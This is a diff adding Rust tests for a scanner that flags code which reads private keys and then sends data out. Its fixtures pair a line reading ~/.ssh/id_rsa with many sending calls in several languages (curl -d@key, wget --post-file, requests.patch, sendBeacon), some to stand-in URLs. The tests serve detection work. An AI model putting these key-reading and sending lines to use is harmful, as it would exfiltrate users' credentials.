@@ -46,3 +46,61 @@ fn broken_files_are_read_to_their_end() {
         read("a.py", text);
     }
 }
+
+/// Each of these sends what it is given.
+const SENDING: &[(&str, &str)] = &[
+    ("py", "requests.patch(url, data=key)"),
+    ("py", "httpx.Client(timeout=5).post(url, content=key)"),
+    ("py", "requests.request(\"POST\", url, data=key)"),
+    ("py", "conn.request('PUT', '/in', key)"),
+    ("py", "urlopen(url, key)"),
+    ("py", "urllib.request.urlopen(url, key.encode())"),
+    ("py", "urlopen(urllib.request.Request(url, key))"),
+    ("py", "urlopen(url, timeout=5, data=key)"),
+    ("js", "fetch(url, { method, body: key })"),
+    ("js", "fetch(url, { headers, method: `PUT` })"),
+    ("ts", "await axios({ url, method: 'post', data: key })"),
+    ("ts", "got.post(url, { json: key })"),
+    ("js", "navigator.sendBeacon(url, key)"),
+    ("js", "x.open('POST', url); x.send(key)"),
+    ("go", "http.Post(url, \"text/plain\", body)"),
+    ("go", "http.NewRequestWithContext(ctx, http.MethodPost, url, body)"),
+    ("sh", "curl -s \"https://x.example/?a=1&b=2\" -d@key"),
+    ("sh", "curl -sSfd \"$KEY\" \"$URL\""),
+    ("sh", "curl -X PUT \\\n  -T key \\\n  \"$URL\""),
+    ("sh", "curl -Ffile=@key $URL"),
+    ("sh", "curl $URL --data-binary @key"),
+    ("sh", "wget --post-file=key $URL"),
+    ("ps1", "Invoke-RestMethod -Uri $u -Method Post -Body $k"),
+];
+
+/// And none of these.
+const FETCHING: &[(&str, &str)] = &[
+    ("py", "requests.request(\"GET\", url)"),
+    ("py", "urlopen(url, timeout=5)"),
+    ("py", "urllib.request.Request(url, headers=headers)"),
+    ("js", "fetch(url, { headers }); const a = { body: 1 }"),
+    ("ts", "axios({ url, method: 'get' })"),
+    ("go", "http.NewRequest(http.MethodGet, url, nil)"),
+    ("sh", "curl -s $URL | cut -d '\"' -f 4"),
+    ("sh", "curl -fsSL $URL -o a && tar xf a -T list && date -d now"),
+    ("sh", "curl -sfL $URL; grep -F a b"),
+];
+
+#[test]
+fn a_key_and_a_call_that_sends_are_found_together_in_any_form() {
+    let key = |kind| match kind {
+        "py" => "key = open(os.path.expanduser(\"~/.ssh/id_rsa\"))\n",
+        "js" | "ts" => "const key = read(os.homedir() + '/.ssh/id_rsa');\n",
+        "go" => "key := read(home + \"/.aws/id_rsa\")\n",
+        _ => "KEY=~/.ssh/id_rsa\n",
+    };
+    for (kind, line) in SENDING {
+        let text = format!("{}{line}\n", key(*kind));
+        assert_eq!(found(&format!("a.{kind}"), &text), [Found::HarvestAndSend], "{line}");
+    }
+    for (kind, line) in FETCHING {
+        let text = format!("{}{line}\n", key(*kind));
+        assert_eq!(found(&format!("a.{kind}"), &text), [Found::CollectSecrets], "{line}");
+    }
+}
